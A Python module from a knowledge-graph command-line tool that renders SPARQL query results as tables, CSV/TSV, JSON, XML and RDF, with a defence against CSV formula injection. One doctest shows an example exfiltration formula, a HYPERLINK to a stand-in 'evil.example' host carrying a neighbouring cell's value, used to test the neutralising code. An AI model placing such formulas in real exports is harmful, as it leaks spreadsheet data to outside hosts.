"""Write query results in the formats every command shares.

SELECT results: ``table`` (for people); ``csv`` and ``tsv``, SPARQL 1.1 CSV/TSV made safe to open in
a spreadsheet (see :func:`spreadsheet_safe`); ``csv-raw`` and ``tsv-raw``, W3C-exact SPARQL 1.1
CSV/TSV for programs; ``json`` and ``xml`` (SPARQL 1.1 Query Results JSON and XML). Graph results:
``turtle``, ``ntriples``, ``jsonld``. ASK: ``true``/``false``.

>>> from kg.query import QueryResult
>>> import pyoxigraph as ox
>>> result = QueryResult("select", ["title", "n"], [(ox.Literal("=1+2"), ox.Literal("-3"))])
>>> format_result(result, "csv").splitlines()
['title,n', "'=1+2,'-3"]
>>> format_result(result, "csv-raw").splitlines()
['title,n', '=1+2,-3']
"""

from __future__ import annotations

import csv
import io
import json
from xml.sax.saxutils import escape, quoteattr

import pyoxigraph as ox

from kg.errors import InputError
from kg.query import QueryResult
from kg.vocab import PREFIXES

SELECT_FORMATS = ("table", "csv", "tsv", "csv-raw", "tsv-raw", "json", "xml")
GRAPH_FORMATS = ("turtle", "ntriples", "jsonld")
FORMATS = SELECT_FORMATS + GRAPH_FORMATS
_RDF_FORMATS = {"turtle": ox.RdfFormat.TURTLE, "ntriples": ox.RdfFormat.N_TRIPLES, "jsonld": ox.RdfFormat.JSON_LD}
_TABLE_CELL = 60  # characters; longer values (sentences) are cut in tables only
#: How a cell a spreadsheet would read as a formula starts (OWASP, "CSV Injection"). A leading
#: "-" counts even in a plain number: "-3" is harmless, but "-3+cmd|..." is not, and telling
#: them apart is the kind of parsing that attackers win.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def shorten(iri: str) -> str:
    """``https://w3id.org/kommunegraf/id/municipality/0602`` -> ``kgr:municipality/0602``."""
    best = ""
    for prefix, namespace in PREFIXES.items():
        if iri.startswith(namespace) and len(namespace) > len(PREFIXES.get(best, "")):
            best = prefix
    return f"{best}:{iri[len(PREFIXES[best]):]}" if best else iri


def spreadsheet_safe(cell: str) -> str:
    """``cell`` as a spreadsheet will show it as text, never run it: a cell that starts with
    ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front (OWASP's
    advice), negative numbers too. Quoting the cell as CSV requires is the CSV writer's job.

    >>> print(spreadsheet_safe('=HYPERLINK("https://evil.example/?"&B2)'))
    '=HYPERLINK("https://evil.example/?"&B2)
    >>> spreadsheet_safe("-0.5"), spreadsheet_safe("Drammen")
    ("'-0.5", 'Drammen')
    """
    return "'" + cell if cell.startswith(FORMULA_START) else cell


def default_format(result: QueryResult, interactive: bool) -> str:
    if result.kind == "graph":
        return "turtle"
    return "table" if interactive else "csv"


def format_result(result: QueryResult, fmt: str) -> str:
    """Render ``result`` as text in ``fmt``; a format that does not fit the result is an error."""
    if result.kind == "update":
        return "update applied\n"
    if result.kind == "ask":
        return "true\n" if result.boolean else "false\n"
    if result.kind == "graph":
        if fmt not in GRAPH_FORMATS:
            raise InputError(f"--format {fmt} does not fit a graph result; use one of {', '.join(GRAPH_FORMATS)}")
        return ox.serialize(result.triples, format=_RDF_FORMATS[fmt], prefixes=PREFIXES).decode("utf-8")
    if fmt not in SELECT_FORMATS:
        raise InputError(f"--format {fmt} does not fit a SELECT result; use one of {', '.join(SELECT_FORMATS)}")
    return _SELECT_WRITERS[fmt](result)


def _plain(term) -> str:
    if term is None:
        return ""
    if isinstance(term, ox.BlankNode):
        return f"_:{term.value}"
    return term.value


def _table(result: QueryResult) -> str:
    def cell(term) -> str:
        return shorten(term.value) if isinstance(term, ox.NamedNode) else _plain(term)

    return _aligned(result.variables, [[cell(term) for term in row] for row in result.rows])


def _aligned(columns: list[str], rows: list[list[str]]) -> str:
    """A plain-text table: one space-padded column per field, long values cut, a row count."""
    def fit(text: str) -> str:
        text = " ".join(text.split())
        return text if len(text) <= _TABLE_CELL else text[: _TABLE_CELL - 1] + "…"

    rows = [[fit(value) for value in row] for row in rows]
    widths = [max([len(v)] + [len(row[i]) for row in rows]) for i, v in enumerate(columns)]
    lines = ["  ".join(v.ljust(w) for v, w in zip(columns, widths)).rstrip(),
             "  ".join("-" * w for w in widths)]
    lines += ["  ".join(v.ljust(w) for v, w in zip(row, widths)).rstrip() for row in rows]
    lines.append(f"({len(rows)} row{'s' if len(rows) != 1 else ''})")
    return "\n".join(lines) + "\n"


ROW_FORMATS = ("table", "csv", "csv-raw", "json")


def format_rows(rows: list[dict], fmt: str) -> str:
    """Plain records (as :mod:`kg.analysis` returns them) as ``table``, ``csv`` (spreadsheet-safe),
    ``csv-raw`` or ``json``.

    >>> format_rows([{"label": "@Drammen", "degree": 3}], "csv").splitlines()
    ['label,degree', "'@Drammen,3"]
    """
    columns = list(rows[0]) if rows else []
    if fmt == "json":
        return json.dumps(rows, ensure_ascii=False, indent=1) + "\n"
    text = [["" if row.get(c) is None else str(row[c]) for c in columns] for row in rows]
    if fmt in ("csv", "csv-raw"):
        return _csv_text(columns, text, safe=fmt == "csv")
    return _aligned(columns, text)


def _csv_text(header: list[str], rows: list[list[str]], safe: bool) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # SPARQL 1.1 CSV uses CRLF
    writer.writerow(header)
    writer.writerows([spreadsheet_safe(cell) for cell in row] if safe else row for row in rows)
    return out.getvalue()


def _csv(result: QueryResult, safe: bool = True) -> str:
    return _csv_text(result.variables, [[_plain(term) for term in row] for row in result.rows], safe)


def _tsv(result: QueryResult, safe: bool = True) -> str:
    # SPARQL 1.1 TSV: terms in Turtle/N-Triples syntax, which pyoxigraph's str() gives. A
    # spreadsheet takes the quotes off a literal, so the safe form neutralises the literal's text.
    def cell(term) -> str:
        if term is None:
            return ""
        if safe and isinstance(term, ox.Literal) and term.value.startswith(FORMULA_START):
            term = ox.Literal(spreadsheet_safe(term.value), language=term.language,
                              datatype=None if term.language else term.datatype)
        return str(term)

    lines = ["\t".join(f"?{v}" for v in result.variables)]
    lines += ["\t".join(cell(term) for term in row) for row in result.rows]
    return "\n".join(lines) + "\n"


def _json_term(term) -> dict[str, str]:
    if isinstance(term, ox.NamedNode):
        return {"type": "uri", "value": term.value}
    if isinstance(term, ox.BlankNode):
        return {"type": "bnode", "value": term.value}
    found = {"type": "literal", "value": term.value}
    if term.language:
        found["xml:lang"] = term.language
    elif term.datatype.value != "http://www.w3.org/2001/XMLSchema#string":
        found["datatype"] = term.datatype.value
    return found


def _json(result: QueryResult) -> str:
    bindings = [{v: _json_term(t) for v, t in zip(result.variables, row) if t is not None} for row in result.rows]
    document = {"head": {"vars": result.variables}, "results": {"bindings": bindings}}
    return json.dumps(document, ensure_ascii=False, indent=1) + "\n"


def _xml_term(term) -> str:
    if isinstance(term, ox.NamedNode):
        return f"<uri>{escape(term.value)}</uri>"
    if isinstance(term, ox.BlankNode):
        return f"<bnode>{escape(term.value)}</bnode>"
    if term.language:
        return f"<literal xml:lang={quoteattr(term.language)}>{escape(term.value)}</literal>"
    if term.datatype.value != "http://www.w3.org/2001/XMLSchema#string":
        return f"<literal datatype={quoteattr(term.datatype.value)}>{escape(term.value)}</literal>"
    return f"<literal>{escape(term.value)}</literal>"


def _xml(result: QueryResult) -> str:
    head = "".join(f"<variable name={quoteattr(v)}/>" for v in result.variables)
    rows = "".join(
        "<result>" + "".join(f"<binding name={quoteattr(v)}>{_xml_term(t)}</binding>"
                             for v, t in zip(result.variables, row) if t is not None) + "</result>"
        for row in result.rows)
    return (f'<?xml version="1.0"?>\n<sparql xmlns="http://www.w3.org/2005/sparql-results#">'
            f"<head>{head}</head><results>{rows}</results></sparql>\n")


_SELECT_WRITERS = {"table": _table, "csv": _csv, "tsv": _tsv, "json": _json, "xml": _xml,
                   "csv-raw": lambda result: _csv(result, safe=False),
                   "tsv-raw": lambda result: _tsv(result, safe=False)}
